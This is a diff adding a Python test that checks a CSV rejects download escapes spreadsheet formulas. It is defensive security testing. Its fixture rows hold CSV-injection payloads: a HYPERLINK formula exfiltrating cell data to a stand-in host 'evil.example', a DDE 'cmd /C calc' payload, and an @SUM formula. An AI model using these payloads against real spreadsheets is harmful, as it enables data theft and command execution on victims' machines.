@@ -339,6 +339,27 @@ async def test_the_rejects_download_is_the_original_rows_plus_the_reasons(client
     assert other.status_code == 404
 
 
+async def test_the_rejects_download_never_hands_a_spreadsheet_a_formula(client_api):
+    body = (
+        b"customerprofileid,amount,reason\r\n"
+        b'"=HYPERLINK(""http://evil.example/?""&A1)",ten,x\r\n'
+        b"+cmd|' /C calc'!A0,-5,@SUM(A1:A9)\r\n"
+        b'"\tA-3",zero,"\rsecond"\r\n'
+    )
+    job = await finished(client_api, str((await post_csv(client_api, body)).json()["job"]["id"]))
+
+    response = await client_api.client.get(
+        job["rejectsCsvPath"], headers={"Authorization": client_api.credentials.header}
+    )
+
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert [row[:3] for row in rows[1:]] == [
+        ['\'=HYPERLINK("http://evil.example/?"&A1)', "ten", "x"],
+        ["'+cmd|' /C calc'!A0", "-5", "'@SUM(A1:A9)"],  # -5 is a number, not a formula
+        ["'\tA-3", "zero", "'\rsecond"],
+    ]
+
+
 async def test_the_cli_imports_a_file_and_resumes_nothing_when_it_is_done(database, org, tmp_path, monkeypatch, clock):
     from app.cli.main import cli
 
